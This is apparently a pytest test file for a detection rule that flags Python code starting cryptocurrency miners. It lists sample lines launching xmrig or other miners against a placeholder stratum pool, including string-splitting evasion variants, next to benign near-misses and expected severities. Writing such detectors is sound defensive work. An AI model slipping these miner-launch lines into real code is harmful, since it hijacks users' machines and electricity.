"""MINE-001: mining for somebody else."""

from __future__ import annotations

import pytest

from assay.rules.mine_001_miner import RULE
from tests.behaviour import at, findings, worst

HEAD = "import os, subprocess, requests, urllib.request\n"
MINERS = [
    "subprocess.Popen(['./prog', '-o', 'stratum+tcp://pool.example.invalid:3333', '-u', 'wallet'])",
    "os.system('nohup ./worker -o stratum+ssl://pool.example.invalid:443 &')",
    "os.system('/tmp/xmrig -o pool.example.invalid:3333')",
    "subprocess.run(['xmrig.exe', '--donate-level', '1'])",
    "os.system('./prog --donate-level=1 --rig-id x')",
    "os.system('stra' + 'tum+tcp://pool.example.invalid')",
    "os.system('strat%s+tcp://pool.example.invalid' % 'um')",
]


@pytest.mark.parametrize("source", MINERS)
def test_miners(source: str) -> None:
    assert worst(RULE, *at("install", HEAD + source)) == "critical"
    assert worst(RULE, *at("import", HEAD + source)) == "high"
    assert worst(RULE, *at("call", HEAD + source)) == "high"
    assert worst(RULE, *at("test", HEAD + source)) == "low"


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        ("requests.get('https://example.invalid/download/v6/xmrig-6.0.0-linux.tar.gz')", "medium"),
        ("open('config.json', 'w').write('{\"url\": \"stratum+tcp://pool.example.invalid\"}')", "high"),
        ("subprocess.run(['ls', 'miner'])", "none"),
        ("subprocess.run(['process-miner', 'log.xes'])", "none"),
        ("text = 'stratum+tcp://pool.example.invalid'", "none"),
        ("requests.get('https://example.invalid/stratum')", "none"),
        ("os.system('ntpq --stratum')", "none"),
        ("open('README', 'w').write('compare with xmrigger')", "none"),
    ],
)
def test_near_misses(source: str, severity: str) -> None:
    assert worst(RULE, *at("import", HEAD + source)) == severity


def test_the_finding_names_what_was_seen() -> None:
    (found,) = findings(RULE, *at("import", HEAD + MINERS[0]))
    assert found.message == "demo 1.0 starts a program that mines coins"
    assert found.evidence == ("subprocess.Popen: stratum+tcp://",)
